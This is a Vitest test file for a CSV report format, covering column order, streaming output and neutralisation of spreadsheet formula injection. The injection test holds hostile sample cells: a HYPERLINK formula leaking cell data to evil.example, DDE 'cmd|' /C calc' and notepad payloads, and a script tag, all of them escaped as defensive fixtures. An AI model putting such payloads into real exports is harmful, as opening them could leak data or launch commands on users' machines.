import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { ASSESSMENT_COLUMNS } from '../../src/formats/columns.js';
import { csvFormat } from '../../src/formats/csv.js';
import { unionPolicy } from '../helpers/policy.js';
import { assessedFile, expectGolden, fixedContext, render } from './helpers.js';

const policy = unionPolicy();

describe('csv format', () => {
  it('matches the golden file for the example backlog, with kept columns', async () => {
    const results = await assessedFile(policy, 'examples/backlog.csv');
    const out = render(csvFormat, fixedContext(policy, { keepColumns: ['owner', 'tags', 'effort_weeks'] }), results);
    expectGolden(out, 'backlog.expected.csv');
  });

  it('parses back to one row per item, assessment columns first, then policy, then kept columns', async () => {
    const results = await assessedFile(policy, 'examples/backlog.csv');
    const out = render(csvFormat, fixedContext(policy, { keepColumns: ['owner', 'organisations', 'missing'] }), results);
    const rows = parse(out, { columns: true }) as Array<Record<string, string>>;
    expect(Object.keys(rows[0] ?? {})).toEqual([...ASSESSMENT_COLUMNS, 'policy', 'owner', 'organisations', 'missing']);
    expect(rows).toHaveLength(22);
    expect(rows[5]).toEqual({
      id: 'WI-06',
      title: 'Fix postcode validation on the referral form',
      route: 'individual',
      classification: 'business-as-usual',
      alignment: '14',
      transformation: '0',
      confidence: '1',
      rule: 'individual-can-do',
      reason: 'Small (two weeks or less), within one organisation and not recurring: a trusted individual can just do it.',
      overridden: 'false',
      recommended_route: '',
      recommended_rule: '',
      rationale: '',
      decided_by: '',
      stale: '',
      policy: 'union-triage@9.9.9+0123456789ab',
      owner: 'Priya Shah',
      organisations: 'council',
      missing: '',
    });
    expect(rows.map((r) => r['organisations'])[0]).toBe('council;ccg;acute-trust;community-trust');
  });

  it('streams: the header comes with the first row and each item is written as it arrives', async () => {
    const [first, second] = await assessedFile(policy, 'examples/backlog.csv');
    const sink = csvFormat.create(fixedContext(policy));
    const one = sink.write(first!) ?? '';
    const two = sink.write(second!) ?? '';
    expect(one.split('\n')).toHaveLength(3);
    expect(one.startsWith(`${ASSESSMENT_COLUMNS.join(',')},policy\nWI-01,`)).toBe(true);
    expect(two.startsWith('WI-02,')).toBe(true);
    expect(
      sink.end({
        total: 2,
        routes: {},
        classifications: { transformational: 2, borderline: 0, 'business-as-usual': 0 },
        overridden: 0,
        confirmed: 0,
        stale: 0,
        unsettled: 0,
        chase: {},
      }),
    ).toBe('');
  });

  it('prints the header alone when there are no items', () => {
    const sink = csvFormat.create(fixedContext(policy, { keepColumns: ['owner'] }));
    expect(
      sink.end({
        total: 0,
        routes: {},
        classifications: { transformational: 0, borderline: 0, 'business-as-usual': 0 },
        overridden: 0,
        confirmed: 0,
        stale: 0,
        unsettled: 0,
        chase: {},
      }),
    ).toBe(`${ASSESSMENT_COLUMNS.join(',')},policy,owner\n`);
  });

  it('neutralises every cell a spreadsheet would run, in item and kept columns, and leaves numbers alone', async () => {
    const results = await assessedFile(policy, 'test/fixtures/reports/hostile.csv');
    const out = render(csvFormat, fixedContext(policy, { keepColumns: ['owner', 'notes', 'cost_gbp'] }), results);
    const rows = parse(out, { columns: true }) as Array<Record<string, string>>;
    expect(rows.map((r) => [r['id'], r['title'], r['owner'], r['notes'], r['cost_gbp']])).toEqual([
      ['H-1', `'=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")`, `'@SUM(1+1)*cmd|' /C calc'!A0`, `'+cmd|' /C notepad'!A0`, '100'],
      ['H-2', "'-2+3", 'Priya Shah', '-2', ''],
      ['H-3', 'Tab and carriage return', '', "'\tTab-led", '0'],
      ['H-4', "'\uFF1D1+2 full-width equals", '', "'\r=1+1 after a carriage return", '0'],
      ['H-5', "<script>alert('title')</script>", '', "'\n=2*3 after a line feed", '250000'],
      ['H-6', 'Pipes | and\nnewlines <b>bold</b>', '', 'a|b', '1500'],
    ]);
    // No cell of any row starts with a formula character once parsed back.
    for (const row of rows) {
      for (const cell of Object.values(row)) expect(cell, cell).not.toMatch(/^[=+@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20]|^-(?!\d+(\.\d+)?$)/);
    }
  });

  it('quotes a cell holding a lone carriage return, which spreadsheets read as a row end', async () => {
    const results = await assessedFile(policy, 'test/fixtures/reports/hostile.csv');
    const out = render(csvFormat, fixedContext(policy, { keepColumns: ['notes'] }), results);
    expect(out).toContain(`,"'\r=1+1 after a carriage return"\n`);
    expect(parse(out, { record_delimiter: ['\n'] })).toHaveLength(7);
  });
});
